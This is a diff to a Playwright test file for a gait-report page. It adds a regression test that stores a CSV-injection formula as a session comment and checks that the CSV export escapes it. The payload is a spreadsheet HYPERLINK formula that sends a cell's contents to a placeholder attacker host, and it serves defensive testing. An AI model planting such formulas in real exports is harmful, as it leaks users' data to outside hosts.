@@ -5,6 +5,8 @@
  * an empty day says 'No sessions exist for that date.' and a future day is refused at the field. Both projects.
  */
 import { readFile } from "node:fs/promises";
+import { parse } from "csv-parse/sync";
+import type { Page } from "@playwright/test";
 import { test, expect, expectAccessible, jsEnabled } from "./fixtures.js";
 import { apiAs, PROVIDER_ADMIN } from "./helpers/stack.js";
 import { useSession } from "./helpers/session.js";
@@ -15,6 +17,7 @@ const PAGE = "/gait/reports/";
 let day: string;
 let today: string;
 let subject: string;
+let commented: { id: string; comment: string | null };
 
 const mmddyyyy = (d: string) => `${d.slice(5, 7)}-${d.slice(8, 10)}-${d.slice(0, 4)}`;
 
@@ -23,19 +26,37 @@ test.beforeAll(async () => {
   const me = await api.GET("/v2/users/current");
   const timeZone = me.data!.organization.timezone;
   today = todayIn(timeZone);
-  for (let back = 0; back < 120 && !day; back++) {
+  // From 31 days back: the gait sections' comment test takes sessions of the last 30 days, and this one comments one.
+  for (let back = 31; back < 150 && !day; back++) {
     const d = addDays(today, -back);
     const r = await api.GET("/v2/gait/sessions/report", { params: { query: dateRangeInstants({ start: d, end: d }, timeZone) } });
     const withSpeed = (r.data ?? []).find((s) => s.session.data.items.some((i) => i.measures.some((m) => m.name === "avgSpeed" || m.name === "speed")));
     if (withSpeed) {
       day = d;
       subject = `${withSpeed.subject.firstName} ${withSpeed.subject.lastName}`;
+      commented = { id: withSpeed.id, comment: withSpeed.session.meta.comment ?? null };
     }
   }
-  expect(day, "the organization has gait sessions in the last 120 days").toBeDefined();
+  expect(day, "the organization has gait sessions 31 to 150 days ago").toBeDefined();
 });
 
+// A comment a spreadsheet would run (OWASP CSV injection; issue 23, finding 4): the CSV carries it as text.
+const FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
+
 test("a gait user generates a day's report: the chart with its share below 0.8 m/s, the image and CSV downloads, then a new report", async ({ page }) => {
+  // The JavaScript project comments (the two projects may run at the same time, and every worker runs this file's
+  // hooks: the comment is put back in this test, not in an afterAll); both check the CSV has no live cell.
+  const api = await apiAs(PROVIDER_ADMIN.email);
+  const comment = (value: string | null) => api.POST("/v2/gait/sessions/{id}/comment", { params: { path: { id: commented.id } }, body: { comment: value } });
+  if (jsEnabled()) expect((await comment(FORMULA_COMMENT)).response.status).toBe(200);
+  try {
+    await report(page);
+  } finally {
+    if (jsEnabled()) await comment(commented.comment);
+  }
+});
+
+async function report(page: Page) {
   await useSession(page, PROVIDER_ADMIN.email);
   await page.goto("/gait/");
   await expect(page).toHaveURL(/\/gait\/reports\/$/);
@@ -71,11 +92,14 @@ test("a gait user generates a day's report: the chart with its share below 0.8 m
   const text = await readFile((await csv.path())!, "utf8");
   expect(text.split("\n")[0]).toBe("First Name,Last Name,Gait UID,Captured,Assistance,Speed (m/s),Below 0.8 m/s,Comment");
   expect(text).toMatch(/,\d+\.\d{2},(Yes|No),/);
+  const comments = (parse(text, { columns: true }) as Record<string, string>[]).map((row) => row.Comment ?? "");
+  if (jsEnabled()) expect(comments, "the formula-shaped comment leaves as text").toContain(`'${FORMULA_COMMENT}`);
+  expect(comments.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c)), "no cell starts a formula").toEqual([]);
 
   await page.getByRole("link", { name: "Generate new report" }).click();
   await expect(page).toHaveURL(/\/gait\/reports\/$/);
   await expect(page.getByRole("form", { name: "Generate a gait report" }).getByLabel("Report date")).toBeVisible();
-});
+}
 
 test("an empty day says so and a future day is refused at the field", async ({ page }) => {
   await useSession(page, PROVIDER_ADMIN.email);
